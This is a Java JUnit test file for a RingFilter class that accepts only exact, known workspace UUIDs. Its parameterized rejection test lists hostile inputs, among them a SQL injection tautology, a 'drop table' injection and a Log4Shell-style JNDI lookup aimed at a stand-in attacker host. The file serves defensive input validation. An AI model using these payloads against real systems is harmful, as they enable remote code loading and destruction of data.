package dev.hookwarden.dispatch.control;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Set;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class RingFilterTest {
  private static final UUID KNOWN = UUID.fromString("019a0000-0000-7abc-8def-0123456789ab");

  /** What the lenient reader of the JDK makes of the short form of a hostile message below. */
  private static final UUID SHORT = UUID.fromString("1-1-1-1-1");

  private final RingFilter filter = new RingFilter();

  @Test
  void aKnownWorkspaceIsRead() {
    filter.know(Set.of(KNOWN));
    assertThat(filter.read(KNOWN.toString())).contains(KNOWN);
  }

  @Test
  void noOtherWorkspaceIsRead() {
    assertThat(filter.read(KNOWN.toString())).as("before anything is known").isEmpty();
    filter.know(Set.of(KNOWN));
    assertThat(filter.read(UUID.randomUUID().toString())).isEmpty();
    filter.know(Set.of());
    assertThat(filter.read(KNOWN.toString())).as("one that is gone").isEmpty();
  }

  @ParameterizedTest
  @NullSource
  @ValueSource(
      strings = {
        "",
        "1-1-1-1-1",
        " 019a0000-0000-7abc-8def-0123456789ab",
        "019a0000-0000-7abc-8def-0123456789ab\n",
        "{019a0000-0000-7abc-8def-0123456789a}",
        "019a000000007abc8def0123456789ab",
        "019a0000-0000-7abc-8def-0123456789aş",
        "019a0000-0000-7abc-8def-+123456789ab",
        "019a0000-0000-7abc-8def-0123456789ab' or '1'='1",
        "'; drop table queued_run; --aaaaaaaa",
        "${jndi:ldap://attacker.example/aaaa}"
      })
  void nothingElseIsRead(String hostile) {
    filter.know(Set.of(KNOWN, SHORT));
    assertThat(filter.read(hostile)).isEmpty();
  }

  @Test
  void lengthAndCaseAreExact() {
    filter.know(Set.of(KNOWN));
    assertThat(filter.read(KNOWN.toString().toUpperCase(Locale.ROOT))).isEmpty();
    assertThat(filter.read(KNOWN.toString().repeat(1_000_000))).isEmpty();
  }
}
